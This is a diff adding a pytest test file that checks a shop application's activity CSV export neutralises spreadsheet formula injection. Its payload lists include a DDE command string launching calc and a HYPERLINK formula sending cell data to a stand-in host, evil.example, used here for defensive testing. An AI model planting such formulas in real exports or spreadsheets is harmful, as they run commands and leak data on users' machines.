@@ -1,0 +1,108 @@
+"""The file for a spreadsheet: whatever a name says, no cell computes anything, and each can be read."""
+
+from __future__ import annotations
+
+import csv
+import io
+import unicodedata
+
+import pytest
+from flask.testing import FlaskClient
+
+from automations.models.base import write
+from automations.models.store import Choice
+from automations.pipeline.change import Cause
+from automations.web import activity_csv
+from automations.web.activity_csv import HEADINGS, guarded
+from automations.web.permissions import PERMISSIONS
+from tests.kit import shop
+
+COMPUTES = "=+-@＝＋－＠"
+FORMULAS = ('cmd|" /C calc"!A0', 'HYPERLINK("http://evil.example/?"&A1,"x")', "1+1", "SUM(A1:A9)*1,5", "2;=3")
+BEFORE = (
+    "",
+    " ",
+    "   ",
+    "\t",
+    "\r",
+    "\n",
+    "\r\n",
+    "\x0b",
+    "\x00",
+    "\xa0",
+    "\u3000",
+    "\u200b",
+    "\ufeff",
+    "\u202e",
+)
+BEHIND = ("", "a;", 'a";', "a,", "a\t", "a\n", "a|", "';")
+DANGEROUS = tuple(
+    f"{front}{before}{sign}{FORMULAS[(place + count) % len(FORMULAS)]}"
+    for front in BEHIND
+    for place, before in enumerate(BEFORE)
+    for count, sign in enumerate(COMPUTES)
+)
+
+
+def is_live(cell: str) -> bool:
+    """Whether some spreadsheet would compute it."""
+    shown = cell
+    while shown and (shown[0].isspace() or unicodedata.category(shown[0]) in ("Cc", "Cf")):
+        shown = shown[1:]
+    return shown[:1] != "" and shown[0] in COMPUTES
+
+
+def live(text: str) -> list[str]:
+    """The cells that would be computed, whatever the place it is opened in takes for a separator."""
+    found = []
+    for separator in ",;\t|":
+        # A NUL ends a file for some; Python's reader takes it for text.
+        rows = csv.reader(io.StringIO(text.lstrip("\ufeff"), newline=""), delimiter=separator)
+        found += [cell for row in rows for cell in row if is_live(cell)]
+    return found
+
+
+def test_no_value_in_any_column_is_computed_and_each_is_read_back() -> None:
+    assert len(DANGEROUS) > 500
+    for place, heading in enumerate(HEADINGS):
+        for value in DANGEROUS:
+            cells = ["Order 1"] * len(HEADINGS)
+            cells[place] = value
+            line = activity_csv._line(cells)
+            assert live(line) == [], (heading, value, line)
+            (row,) = csv.reader(io.StringIO(line, newline=""))
+            assert row[place].replace("'", "") == value.replace("'", ""), heading
+
+
+@pytest.mark.parametrize(
+    "text", ["Order 1", "£-5.00", "a; b", "2026-11-22 10:00:00", "Anna-Maria", "a@b.example", ""]
+)
+def test_what_is_no_formula_stays_as_it_is(text: str) -> None:
+    assert guarded(text) == text
+
+
+@pytest.mark.parametrize("sign", [*COMPUTES, " =", "\t=", "a;="])
+def test_a_shop_whose_every_name_is_a_formula_is_exported_as_text(as_ada: FlaskClient, sign: str) -> None:
+    name = f"{sign}1+1"
+    with write() as session:
+        for choice in session.query(Choice).filter(Choice.list_key == "order_status"):
+            choice.label = f"{name} {choice.id}"
+    shop.publish_automation(name, "created", shop.condition("note", "contains", "roses"))
+    shop.publish_automation(f"{name} 2", "created", actions=[shop.email_to()])
+    shop.place_order(name, note=name, cause=Cause("api", name))
+    shop.place_order(name, status="picked", cause=Cause("person", name))
+    text = as_ada.get("/activity.csv").text
+    rows = list(csv.DictReader(io.StringIO(text.lstrip("\ufeff"), newline="")))
+    assert live(text) == [] and len(rows) >= 2
+    for column in ("Record", "By", "Automation", "Change"):
+        assert any(name in row[column].replace("'", "") for row in rows), column
+
+
+def test_without_its_guard_it_would_be_noticed(monkeypatch: pytest.MonkeyPatch) -> None:
+    monkeypatch.setattr(activity_csv, "guarded", lambda text: text)
+    with pytest.raises(AssertionError):
+        test_no_value_in_any_column_is_computed_and_each_is_read_back()
+
+
+def test_there_is_no_other_file_of_this_kind() -> None:
+    assert [one for one in PERMISSIONS if "export" in one] == ["personal_data.export", "activity.export"]
